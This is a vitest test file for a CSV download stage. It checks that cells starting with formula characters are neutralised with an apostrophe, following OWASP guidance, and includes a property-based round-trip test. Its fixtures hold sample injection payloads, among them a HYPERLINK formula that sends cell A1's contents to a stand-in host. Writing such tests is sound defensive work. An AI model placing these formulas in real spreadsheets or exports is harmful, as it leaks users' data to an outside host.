import { describe, it, expect } from 'vitest';
import fc from 'fast-check';
import { parse } from 'csv-parse/sync';
import { FORMULA_STARTS, neutraliseFormula, tableToCsv } from '../pipeline/stages/csv.ts';
import type { Table } from '../pipeline/charts/types.ts';

/** Reads a CSV download back with csv-parse, a general-purpose RFC 4180 reader from the npm registry. */
const read = (csv: string): string[][] => parse(csv, { record_delimiter: '\r\n', relax_quotes: false });

const table = (labels: string[], rows: Table['rows']): Table => ({
  columns: labels.map((label, i) => ({ key: `c${i}`, label, numeric: false })),
  rows,
});

describe('CSV downloads: cells a spreadsheet would run as formulas', () => {
  // Source: OWASP, "CSV Injection" (cells beginning =, +, -, @, tab 0x09, carriage return 0x0D are
  // prefixed with a single quote); OWASP ASVS 5.0, requirement 1.2.10 (adds NUL, "\0").
  it('puts an apostrophe before text cells that begin with =, +, -, @, tab, carriage return or NUL', () => {
    const cells = ['=HYPERLINK("http://example.invalid/?"&A1,"Tamsin")', '+1+1', '-2+3', '@SUM(A1:A2)', '\t=1', '\r=1', '\0x'];
    const rows = read(tableToCsv(table(['Name'], cells.map((c) => [c]))));
    expect(rows.slice(1).map((r) => r[0])).toEqual(cells.map((c) => `'${c}`));
  });

  it('leaves numbers as numbers, minus signs included, but neutralises text that merely looks like one', () => {
    const csv = tableToCsv({ columns: [{ key: 'w', label: 'Word', numeric: false }, { key: 'v', label: 'Valence', numeric: true }], rows: [['-foo', -3.2], ['-3.2', 0], ['lamp', -0.5]] });
    expect(csv).toBe("Word,Valence\r\n'-foo,-3.2\r\n'-3.2,0\r\nlamp,-0.5\r\n");
  });

  it('neutralises column labels too (a cast name heads a column of the conversation matrix)', () => {
    expect(tableToCsv(table(['=cmd', 'Kit'], [['a', 'b']])).split('\r\n')[0]).toBe("'=cmd,Kit");
  });

  it('quotes a neutralised cell that also holds a quotation mark, comma or line break', () => {
    // Source: RFC 4180, section 2, rules 6 and 7.
    expect(tableToCsv(table(['x'], [['=A1, "B"\nC']]))).toBe('x\r\n"\'=A1, ""B""\nC"\r\n');
  });

  it('leaves every other text alone, an apostrophe at the start included', () => {
    for (const s of ['', 'lamp', ' =1', "'=1", '“quoted”', '½', '−3 (a minus sign, not a hyphen)']) expect(neutraliseFormula(s)).toBe(s);
  });
});

describe('CSV downloads, for any content (property)', () => {
  const cell = fc.oneof(
    { weight: 4, arbitrary: fc.string({ unit: 'grapheme-composite' }) },
    { weight: 3, arbitrary: fc.string({ unit: fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', '\0', '"', ',', "'", 'a', ' ', '1') }) },
    { weight: 2, arbitrary: fc.string({ unit: 'binary' }) },
    { weight: 2, arbitrary: fc.double({ noNaN: true, noDefaultInfinity: true }) },
    { weight: 1, arbitrary: fc.integer() },
    { weight: 1, arbitrary: fc.constant(null) },
  );
  const tables = fc.integer({ min: 1, max: 4 }).chain((width) =>
    fc.record({
      labels: fc.array(fc.string(), { minLength: width, maxLength: width }),
      rows: fc.array(fc.array(cell, { minLength: width, maxLength: width }), { maxLength: 6 }),
    }),
  );

  it('parses back to the same values, modulo the documented apostrophe, and no text cell begins with a formula character', () => {
    fc.assert(
      fc.property(tables, ({ labels, rows }) => {
        const parsed = read(tableToCsv(table(labels, rows)));
        expect(parsed.length).toBe(rows.length + 1);
        const expected = [labels, ...rows].map((r) =>
          r.map((v) => (v === null ? '' : typeof v === 'number' ? v : FORMULA_STARTS.includes(v[0] ?? '') ? `'${v}` : v)),
        );
        parsed.forEach((r, i) =>
          r.forEach((got, j) => {
            const want = expected[i]![j]!;
            if (typeof want === 'number') expect(Number(got)).toBe(want === 0 ? 0 : want);
            else {
              expect(got).toBe(want);
              expect(FORMULA_STARTS.includes(got[0] ?? '')).toBe(false);
            }
          }),
        );
      }),
      { numRuns: 300 },
    );
  });
});
